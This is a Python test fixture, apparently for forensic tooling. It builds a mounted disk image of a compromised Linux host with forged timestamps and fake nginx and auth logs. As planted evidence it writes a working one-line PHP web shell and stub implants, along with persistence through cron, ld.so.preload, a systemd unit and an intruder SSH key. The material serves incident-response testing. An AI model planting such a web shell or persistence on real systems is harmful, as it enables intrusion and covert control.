# Copyright: bulwark.servers contributors
# GNU General Public License v3.0+ (see LICENSES/GPL-3.0-or-later.txt or https://www.gnu.org/licenses/gpl-3.0.txt)
# SPDX-License-Identifier: GPL-3.0-or-later
"""A disk of a host on which an intruder was, with the times that files have then: only debugfs(8) can set them."""

from __future__ import annotations

import contextlib
import os
import pathlib
import subprocess
import time
import typing as t

from tests.unit.plugins.module_utils.investigation.roots import Root

NOW = float(int(time.time()))
DAY = 86_400.0
# When the intruder began.
BEGAN = NOW - 2 * DAY
_INSTALLED = NOW - 200 * DAY
INTRUDER, CONTROL, ADMINISTRATOR = "203.0.113.9", "198.51.100.66", "192.0.2.10"
WEB_SHELL, IMPLANT, LIBRARY = "/var/www/html/uploads/i.php", "/var/tmp/.font/cached", "/usr/local/lib/libfont.so"
CRON, PRELOAD, KEYS, UNIT = (
    "/etc/cron.d/fontcache",
    "/etc/ld.so.preload",
    "/home/deploy/.ssh/authorized_keys",
    "/etc/systemd/system/fontd.service",
)
PLANTED = (WEB_SHELL, IMPLANT, LIBRARY, CRON, PRELOAD, KEYS, UNIT)
_PASSWD = (
    "root:x:0:0:root:/root:/bin/bash\nwww-data:x:33:33::/var/www:/usr/sbin/nologin\n"
    "deploy:x:1000:1000::/home/deploy:/bin/bash\nalice:x:1001:1001::/home/alice:/bin/bash\n"
)


@contextlib.contextmanager
def mounted(directory: pathlib.Path, fingerprint: str, public: str) -> t.Iterator[pathlib.Path]:
    """Make the disk and mount it for reading; yield where. fingerprint, public: of the intruder's key."""
    tree = directory / "tree"
    tree.mkdir()
    times = _fill(Root(tree), fingerprint, public)
    image, script, point = directory / "image", directory / "script", directory / "mounted"
    # Where the kernel keeps births, inodes of 256 bytes have place for them.
    make = ["mkfs.ext4", "-q", "-F", "-I", "256", "-d", str(tree), str(image), "64M"]
    subprocess.run(make, check=True, capture_output=True)
    lines = []
    for path in sorted(tree.rglob("*")):
        name = "/" + str(path.relative_to(tree))
        born, changed, modified = times.get(name, (_INSTALLED, _INSTALLED, _INSTALLED))
        for field, value in (("crtime", born), ("ctime", changed), ("mtime", modified), ("atime", changed)):
            lines.append(f'set_inode_field "{name}" {field} @{int(value)}')
            lines.append(f'set_inode_field "{name}" {field}_extra 0')
    script.write_text("\n".join(lines) + "\n", encoding="ascii")
    subprocess.run(["debugfs", "-w", "-f", str(script), str(image)], check=True, capture_output=True)
    point.mkdir()
    subprocess.run(["mount", "-o", "loop,ro", str(image), str(point)], check=True, capture_output=True)
    try:
        yield point
    finally:
        subprocess.run(["umount", str(point)], check=True)


def _fill(root: Root, fingerprint: str, public: str) -> dict[str, tuple[float, float, float]]:
    """Write the files; return birth, change and time of content of those that were not there from the beginning."""
    root.write("/etc/passwd", _PASSWD)
    _ordinary(root)
    root.write(WEB_SHELL, "<?php system($_POST['c']);")
    root.write(IMPLANT, b"\x7fELF" + b"implant", mode=0o755)
    root.write(LIBRARY, b"\x7fELF" + b"library", mode=0o755)
    root.write(CRON, f"*/5 * * * * root {IMPLANT} {CONTROL}\n")
    root.write(PRELOAD, f"{LIBRARY}\n")
    root.write(UNIT, f"[Service]\nExecStart={IMPLANT}\n")
    root.write(KEYS, f"ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIFordinaryordinaryordinaryordinary01 alice\n{public}\n")
    for path in (WEB_SHELL, IMPLANT):
        os.chown(root.path / path.lstrip("/"), 33, 33)
    root.write("/var/log/nginx/access.log", "".join(_requests()))
    root.write("/var/log/auth.log", "".join(_sign_ins(fingerprint)))
    later = BEGAN + 200
    return {
        WEB_SHELL: (BEGAN, BEGAN, BEGAN),
        IMPLANT: (BEGAN + 60, BEGAN + 60, BEGAN + 60),
        CRON: (BEGAN + 90, BEGAN + 90, BEGAN + 90),
        UNIT: (BEGAN + 95, BEGAN + 95, BEGAN + 95),
        # The times of the library were set to those of a program.
        LIBRARY: (BEGAN + 100, BEGAN + 101, _INSTALLED),
        PRELOAD: (BEGAN + 105, BEGAN + 105, BEGAN + 105),
        KEYS: (_INSTALLED, later, later),
        "/var/log/nginx/access.log": (_INSTALLED, NOW, NOW),
        "/var/log/auth.log": (_INSTALLED, NOW, NOW),
        # What somebody else did on another day.
        "/etc/cron.d/report": (NOW - 20 * DAY, NOW - 20 * DAY, NOW - 20 * DAY),
        "/srv/report/run.sh": (NOW - 20 * DAY, NOW - 20 * DAY, NOW - 20 * DAY),
    }


def _ordinary(root: Root) -> None:
    names = []
    for number in range(150):
        name = f"/usr/lib/systemd/system/service{number}.service"
        root.write(name, f"[Service]\nExecStart=/usr/sbin/service{number}\n")
        names.append(name)
    for name in ("/usr/bin/ls", "/usr/bin/curl", "/usr/sbin/nginx", "/usr/sbin/sshd", "/bin/bash", "/etc/pam.d/sshd"):
        root.write(name, name)
        names.append(name)
    root.own("ordinary", *names)
    root.write("/etc/cron.d/report", "0 1 * * * alice /srv/report/run.sh\n")
    root.write("/srv/report/run.sh", "#!/bin/sh\ncurl https://192.0.2.80/\n", mode=0o755)
    root.write("/etc/systemd/system/app.service", "[Service]\nUser=deploy\nExecStart=/opt/app/bin/app\n")
    root.write("/opt/app/bin/app", b"\x7fELF", mode=0o755)
    for number in range(40):
        root.write(f"/var/www/html/page{number}.php", "<?php echo 1;")
        root.write(f"/etc/own{number}.conf", "x")
    for account in ("alice", "deploy"):
        root.write(f"/home/{account}/.bashrc", "alias ll='ls -l'\n")


def _requests() -> t.Iterator[str]:
    for number in range(3_000):
        moment = BEGAN - DAY + number * 60
        yield _request(moment, f"192.0.2.{100 + number % 50}", f"GET /page{number % 40}.php HTTP/1.1")
        if 0 <= moment - BEGAN < 60:
            yield _request(moment + 1, INTRUDER, "POST /upload.php HTTP/1.1")
            yield _request(moment + 30, INTRUDER, "POST /uploads/i.php HTTP/1.1")


def _request(seconds: float, client: str, request: str) -> str:
    stamp = time.strftime("%d/%b/%Y:%H:%M:%S +0000", time.gmtime(seconds))
    return f'{client} - - [{stamp}] "{request}" 200 12 "-" "-"\n'


def _sign_ins(fingerprint: str) -> t.Iterator[str]:
    lines = []
    for number in range(40):
        moment = NOW - 10 * DAY + number * DAY / 4 + 7_000
        text = f"Accepted publickey for alice from {ADMINISTRATOR} port 5 ssh2: ED25519 SHA256:{'a' * 43}"
        lines.append((moment, f"sshd[{100 + number}]: {text}"))
        lines.append((moment + 1, f"systemd-logind[1]: New session {number} of user alice."))
    entry = f"Accepted publickey for deploy from {INTRUDER} port 9 ssh2: ED25519 {fingerprint}"
    lines += [
        (BEGAN + 260, f"sshd[900]: {entry}"),
        (BEGAN + 261, "systemd-logind[1]: New session 99 of user deploy."),
        (BEGAN + 300, f"CRON[901]: (root) CMD ({IMPLANT} {CONTROL})"),
    ]
    for moment, text in sorted(lines):
        yield time.strftime("%Y-%m-%dT%H:%M:%S+00:00", time.gmtime(moment)) + " web " + text + "\n"
